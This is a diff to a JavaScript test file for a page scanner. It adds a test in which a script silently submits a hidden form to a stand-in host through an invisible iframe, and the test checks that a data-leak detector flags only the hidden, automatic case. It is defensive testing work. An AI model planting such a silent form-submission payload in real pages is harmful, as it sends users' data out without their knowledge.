@@ -94,3 +94,10 @@ test('pages that ask for the number and the code of a card, or for a code of the
     '<h1>Formula</h1><p>6-digit code</p>',
   ]) assert.deepEqual(found(html), [], html);
 });
+
+test('a page sends a form by itself into a frame that nobody sees', () => {
+  const form = '<form id=f action="https://in.side.example/c" method=post target=x><textarea name=d>${nonce}</textarea></form>';
+  assert.deepEqual(said(dataLeak, `<p>Preview</p>${form}<iframe name=x hidden></iframe><script>f.submit()</script>`), ['high page.js']);
+  assert.deepEqual(said(dataLeak, `${form}<iframe name=x></iframe><script>f.submit()</script>`), []);
+  assert.deepEqual(said(dataLeak, `${form}<button form=f>Open</button><iframe name=x hidden></iframe>`), []);
+});
